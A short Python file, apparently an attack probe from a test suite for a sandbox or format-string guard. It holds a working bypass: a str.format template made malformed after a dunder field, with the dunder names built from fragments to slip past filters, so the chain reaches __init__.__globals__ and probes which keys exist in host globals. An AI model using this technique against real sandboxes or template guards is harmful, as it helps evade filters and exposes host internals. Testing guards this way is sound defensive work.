# mypy: ignore-errors
# Technique: a runtime format template that is malformed *after* a dunder field
# ("{0.__init__.__globals__[x]}" + "{"): if the guard's parser gives up on the ValueError and
# lets the template through, str.format still resolves the first field before failing, so the
# dunder chain runs (a key-existence oracle on host globals).
class Probe:
    def __init__(self):
        self.hits = 0


def attack(secret_path, canary_path):
    u = "_" * 2
    out = []
    for key in (u + "builtins" + u, "no_such_key"):
        tpl = "{0." + u + "init" + u + "." + u + "globals" + u + "[" + key + "]}{"
        try:
            tpl.format(Probe())
        except (KeyError, ValueError) as e:
            out.append(type(e) is KeyError)
    if True in out:
        print("SANDBOX-" + "ESCAPED")
    return out
